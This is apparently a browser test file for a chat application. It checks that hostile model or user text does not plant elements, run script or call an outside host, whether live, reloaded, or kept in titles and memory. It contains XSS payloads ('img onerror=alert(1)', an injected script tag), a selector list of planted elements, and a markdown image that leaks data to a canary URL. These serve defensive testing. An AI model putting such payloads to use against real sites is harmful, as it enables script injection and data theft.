import { HOSTILE_TEXTS } from "@/components/chat/markdown/__fixtures__/hostile-texts";
import { expect, modelTest as test } from "./fixtures";
import { conversationIn, ownMessages, replies, say, sidebar } from "./support/conversation";
import { startCanary, watchForHarm } from "./support/canary";
import { WELL_MODEL } from "./support/fault-server";
import { randomWord } from "./support/random-words";

const PARTS = 3;
const part = (number: number) => HOSTILE_TEXTS.filter((_, index) => index % PARTS === number);

/** What the hostile texts would add to a page if any of them worked. */
const PLANTED = ["iframe", "object", "embed", "base", "form[action*='evil']", "meta[http-equiv='refresh']", "script[src*='evil']", "video", "picture", "[onerror]", "[onload]", "a[href^='javascript']", "a[href^='data']", "#config"];

for (let number = 0; number < PARTS; number += 1) {
  test(`hostile text does nothing, from a model or a person, while it comes and when it is stored (part ${number + 1} of ${PARTS})`, async ({ page, app, model }) => {
    test.setTimeout(120_000);
    const canary = await startCanary();
    const harm = await watchForHarm(page, app.url);
    const texts = part(number).map((text) => text.replaceAll("http://127.0.0.1:9999", canary.url));
    const words = `Say something bad, ${randomWord()}`;
    model.when(words, { text: texts.join("\n\n---\n\n"), reasoning: texts.join("\n"), tokensPerSecond: 2_000 });

    await page.goto("/");
    await say(page, words);
    await say(page, texts.join("\n"));
    await expect(ownMessages(page).last()).toContainText(texts[0] ?? "");
    for (const look of ["live", "reloaded"]) {
      await test.step(look, async () => {
        for (const selector of PLANTED) expect(await conversationIn(page).locator(selector).count(), selector).toBe(0);
      });
      await page.reload();
      await expect(replies(page)).toHaveCount(2);
    }
    await replies(page).first().getByText(/^Thoughts before the reply/).click();
    expect(harm).toEqual([]);
    expect(canary.calls).toEqual([]);
    await canary.stop();
  });
}

test("a hostile title and a hostile memory are only words", async ({ page, app, model, person }) => {
  const harm = await watchForHarm(page, app.url);
  const hostile = `<img src=x onerror=alert(1)> </title><script>alert(1)</script> ${randomWord()}`;
  const words = `I live in ${randomWord()}`;
  model.when(`Person: ${words}`, hostile, WELL_MODEL);
  await page.goto("/");
  await say(page, words);
  await expect(sidebar(page).getByRole("link").first()).toContainText(/alert\(1\)|onerror/, { timeout: 15_000 });
  await page.reload();

  const content = `<img src=x onerror=alert(1)> ${randomWord()}`;
  const stored = await fetch(`${app.url}/api/v1/memory`, {
    method: "POST",
    headers: { "content-type": "application/json", origin: app.url, cookie: person.cookie },
    body: JSON.stringify({ type: "fact", content }),
  });
  expect(stored.status).toBe(200);
  await page.goto("/memory");
  const memory = page.getByRole("list", { name: "Memories" }).getByRole("listitem", { name: content });
  await expect(memory).toContainText(content);
  for (const selector of ["img", ...PLANTED]) expect(await memory.locator(selector).count(), selector).toBe(0);
  expect(harm).toEqual([]);
});

test("a picture from elsewhere is named and not fetched, until a person follows it", async ({ page, app, model }) => {
  const canary = await startCanary();
  const harm = await watchForHarm(page, app.url);
  const words = `A picture of ${randomWord()}`;
  model.when(words, `![a secret](${canary.url}/leak?d=secret)`);
  await page.goto("/");
  const reply = await say(page, words);
  await expect(reply.getByRole("link", { name: /^Picture not loaded: a secret/ })).toHaveAttribute("href", `${canary.url}/leak?d=secret`);
  expect(canary.calls).toEqual([]);
  expect(harm).toEqual([]);
  await canary.stop();
});
